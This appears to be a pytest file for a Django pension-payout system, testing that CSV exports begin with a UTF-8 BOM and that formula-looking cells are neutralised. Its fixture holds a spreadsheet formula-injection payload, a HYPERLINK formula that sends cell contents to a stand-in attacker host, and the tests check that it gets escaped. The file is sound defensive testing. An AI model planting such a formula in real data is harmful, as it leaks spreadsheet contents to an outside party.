"""CSV files open safely in a spreadsheet: a UTF-8 BOM first, formula-looking cells
neutralised, in the bank's payout batch as in the audit export."""

import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from core import csv
from tests.conftest import otp_login
from tests.factories import approve_claim, death_claim, staff_with
from withdrawals import payout_files
from withdrawals.models import Status

HOSTILE_PAYEE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("   =1+1", "'   =1+1"),
        (" \u3000@x", "' \u3000@x"),
        ("Zhang San", "Zhang San"),
        ("张三", "张三"),
        ("6222 0202 0011 2233 445", "6222 0202 0011 2233 445"),
        ("1200.00", "1200.00"),
        ("-12.50", "-12.50"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_cells_that_would_run_as_formulas_are_neutralised(value, written):
    assert csv.safe_cell(value) == written


def test_the_file_starts_with_the_bom_and_reads_back_without_it():
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["name", "note"])
    writer.writerow(["张三", "=2+3"])
    text = out.getvalue()
    assert text.startswith(csv.BOM)
    assert list(csv.reader(io.StringIO(text))) == [["name", "note"], ["张三", "'=2+3"]]
    assert list(csv.reader(io.StringIO(text.removeprefix(csv.BOM)))) == [
        ["name", "note"],
        ["张三", "'=2+3"],
    ]
    assert list(csv.reader([])) == []


def test_a_download_carries_the_bom_bytes():
    response = csv.response("x.csv", ["a"], [["=1"]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content == b"\xef\xbb\xbfa\r\n'=1\r\n"


# --- the payout batch ----------------------------------------------------------------------


@pytest.fixture
def hostile_payout(db, django_capture_on_commit_callbacks):
    """An approved claim whose applicant typed formulas as payee and bank."""
    application = death_claim(pension="400.00", medical=None)
    type(application).objects.filter(pk=application.pk).update(
        bank_account_holder=HOSTILE_PAYEE, bank_name="  +Bank of Example"
    )
    application = approve_claim(
        application, django_capture_on_commit_callbacks, certificate_number="DC-9"
    )
    assert application.status == Status.APPROVED
    return application


def test_the_payout_batch_neutralises_what_applicants_typed(hostile_payout, tmp_path):
    target = tmp_path / "batch.csv"
    call_command("export_payouts", output=str(target), stderr=io.StringIO())
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfreference,payee,bank,account_number,amount")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"))))
    assert rows[1] == [
        hostile_payout.reference,
        "'" + HOSTILE_PAYEE,
        "'  +Bank of Example",
        "6222 0202 0011 2233 445",
        "400.00",
    ]


def test_the_admin_payout_download_is_the_same_safe_file(hostile_payout, client):
    otp_login(client, staff_with("manage_payouts"))
    response = client.post(reverse("admin:withdrawals_payouts"), {"export": "1"})
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbfreference,")
    assert b"'=HYPERLINK(" in response.content


@pytest.mark.parametrize("bom", ["", csv.BOM])
def test_the_bank_results_file_reads_with_or_without_a_bom(hostile_payout, bom):
    payout_files.export_batch(io.StringIO())
    text = f"{bom}reference,result,note\n{hostile_payout.reference},paid,ok\n"
    counts, problems = payout_files.import_results(io.StringIO(text))
    assert (counts["paid"], counts["errors"], problems) == (1, 0, [])
    hostile_payout.refresh_from_db()
    assert hostile_payout.status == Status.PAID
